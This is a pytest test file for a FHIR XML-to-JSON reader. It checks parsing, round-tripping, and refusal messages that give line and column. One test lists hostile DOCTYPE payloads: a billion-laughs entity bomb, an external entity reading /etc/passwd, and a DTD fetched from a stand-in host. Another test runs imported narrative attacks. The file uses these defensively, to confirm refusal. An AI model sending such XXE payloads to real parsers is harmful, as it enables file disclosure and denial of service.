"""FHIR XML is read into the JSON of the same resource, or refused with its line and column."""

import json

import pytest
from narrative_attacks import ATTACKS, SOUND, Attack, div

from esante.core.domain.xml.reader import json_of_xml
from esante.core.domain.xml.writer import xml_of_json
from esante.validation.domain.narrative import narrative_problem
from socle.errors import Refusal

PATIENT = """<?xml version="1.0" encoding="UTF-8"?>
<!-- A comment of the file -->
<Patient xmlns="http://hl7.org/fhir" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
    xsi:schemaLocation="http://hl7.org/fhir patient.xsd">
  <id value="p1"/>
  <text><status value="generated"/>
    <div xmlns="http://www.w3.org/1999/xhtml" xml:lang="fr" title="a &quot;b&quot;"
      ><p>Zoé &amp; <b/>l&#39;été<br/></p><!-- kept --></div>
  </text>
  <contained><Organization><id value="o"/><active value="true"/></Organization></contained>
  <extension url="urn:size"><valueDecimal value="1.10"/></extension>
  <extension url="urn:born">
    <extension url="at"><valueInteger value="-3"/></extension>
  </extension>
  <name id="n">
    <given value="Ada"/>
    <given id="g"><extension url="urn:why"><valueCode value="masked"/></extension></given>
    <given value="Marie"/>
  </name>
  <birthDate value="1815-12-10"><extension url="urn:t"><valueBoolean value="no"/></extension>
  </birthDate>
</Patient>"""
READ = {
    "resourceType": "Patient",
    "id": "p1",
    "text": {
        "status": "generated",
        "div": '<div xmlns="http://www.w3.org/1999/xhtml" xml:lang="fr" title="a &quot;b&quot;">'
        "<p>Zoé &amp; <b/>l'été<br/></p><!-- kept --></div>",
    },
    "contained": [{"resourceType": "Organization", "id": "o", "active": True}],
    "extension": [
        {"url": "urn:size", "valueDecimal": "number 1.10"},
        {"url": "urn:born", "extension": [{"url": "at", "valueInteger": "number -3"}]},
    ],
    "name": [
        {
            "id": "n",
            "given": ["Ada", None, "Marie"],
            "_given": [
                None,
                {"id": "g", "extension": [{"url": "urn:why", "valueCode": "masked"}]},
                None,
            ],
        }
    ],
    "birthDate": "1815-12-10",
    "_birthDate": {"extension": [{"url": "urn:t", "valueBoolean": "no"}]},
}


def parsed(text: bytes) -> object:
    """JSON whose numbers are texts that say so."""
    return json.loads(text, parse_float=lambda n: f"number {n}", parse_int=lambda n: f"number {n}")


def patient(inside: str) -> bytes:
    return f'<Patient xmlns="http://hl7.org/fhir">{inside}</Patient>'.encode()


def test_every_form_is_read() -> None:
    assert parsed(json_of_xml(PATIENT.encode())) == READ
    assert parsed(json_of_xml(b"\xef\xbb\xbf" + PATIENT.encode())) == READ


@pytest.mark.parametrize("pretty", [False, True])
def test_what_is_read_is_written_and_read_again(pretty: bool) -> None:
    text = json_of_xml(PATIENT.encode())
    assert json_of_xml(xml_of_json(text, pretty=pretty)) == text


def test_prefixes_are_spellings_of_a_namespace() -> None:
    written = (
        '<f:Patient xmlns:f="http://hl7.org/fhir" xmlns:h="http://www.w3.org/1999/xhtml"><f:text>'
        '<f:status value="empty"/><h:div><h:p class="a">x</h:p></h:div></f:text></f:Patient>'
    )
    read = json.loads(json_of_xml(written.encode()))
    assert read["text"]["div"] == div('<p class="a">x</p>')


@pytest.mark.parametrize(
    ("body", "sentence"),
    [
        (b"", "vide"),
        (patient("<active"), "(ligne 1, colonne "),
        (patient("\n\n <active value='true'/>x"), "« value » (ligne 3,"),
        (patient("\n  <wings value='2'/>"), "« wings » (ligne 2, colonne 3)"),
        (patient("<active value='true' wings='2'/>"), "d'attribut « wings »"),
        (patient("<active/>"), "ni valeur ni extension"),
        (patient("<active value='true'/><active value='true'/>"), "vient deux fois"),
        (patient("<active value='true' value='true'/>"), "un attribut vient deux fois"),
        (patient("<active value='&nbsp;'/>"), "une entité n'est pas définie"),
        (patient("<x:active value='true'/>"), "un préfixe n'est pas déclaré"),
        (patient("<active xmlns='urn:x' value='true'/>"), "http://hl7.org/fhir"),
        (patient("<active value='true'><given value='a'/></active>"), "« given »"),
        (patient("<name><id value='a'/></name>"), "est un attribut"),
        (patient("<contained/>"), "aucune ressource"),
        (patient("<contained><Basic/><Basic/></contained>"), "plus d'une ressource"),
        (patient("<contained><Wings/></contained>"), "« Wings » n'est pas une ressource"),
        (patient("<text><div xmlns='http://hl7.org/fhir'>a</div></text>"), "xhtml"),
        (b"<Patient/>", "http://hl7.org/fhir"),
        (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "n'est pas une ressource"),
        (b'<?xml version="1.0" encoding="latin1"?><a/>', "UTF-8"),
        (patient("<active value='\xe9'/>").decode().encode("latin-1"), "(ligne 1"),
        (PATIENT.encode("utf-16"), "UTF-8"),
        (PATIENT.encode("utf-16-le"), "UTF-8"),
        (patient("<extension url='a'>" * 100), "100 niveaux"),
    ],
)
def test_what_is_wrong_is_named_with_its_place(body: bytes, sentence: str) -> None:
    with pytest.raises(Refusal) as refused:
        json_of_xml(body)
    assert sentence in refused.value.message
    assert "ligne" in refused.value.message
    assert refused.value.category == "invalid"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))


@pytest.mark.parametrize(
    "declared",
    [
        f"[{LAUGHS}]",
        '[<!ENTITY l9 SYSTEM "file:///etc/passwd">]',
        '[<!ENTITY % l9 SYSTEM "http://attaque.example/x.dtd"> %l9;]',
        'SYSTEM "http://attaque.example/x.dtd"',
    ],
)
def test_a_document_type_is_not_read(declared: str) -> None:
    body = f"<!DOCTYPE Patient {declared}>".encode() + patient("<active value='&l9;'/>")
    with pytest.raises(Refusal, match=r"DOCTYPE n'est pas lue \(ligne 1"):
        json_of_xml(body)


def test_elements_are_bounded() -> None:
    with pytest.raises(Refusal, match="plus de 20 éléments") as refused:
        json_of_xml(patient("<name/>" * 20), max_elements=20)
    assert refused.value.category == "too_large"


def test_the_element_of_a_refusal_is_named() -> None:
    body = patient("<contact><name><wings/></name></contact>")
    with pytest.raises(Refusal) as refused:
        json_of_xml(body)
    assert refused.value.details["expression"] == ["Patient.contact.name"]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.content[:60])
def test_an_attack_by_narrative_is_refused_as_in_json(attack: Attack) -> None:
    try:
        read = json_of_xml(patient(f"<text><status value='generated'/>{attack.text}</text>"))
    except Refusal:
        return
    text = json.loads(read)["text"]["div"]
    # An element of XHTML with a prefix, which is all that is wrong with one, is read without it.
    assert attack.named in (narrative_problem(text) or "h:img")
    assert "<h:" not in text


@pytest.mark.parametrize("content", SOUND)
def test_sound_narrative_stays_sound(content: str) -> None:
    read = json_of_xml(patient(f"<text><status value='generated'/>{div(content)}</text>"))
    assert narrative_problem(json.loads(read)["text"]["div"]) is None
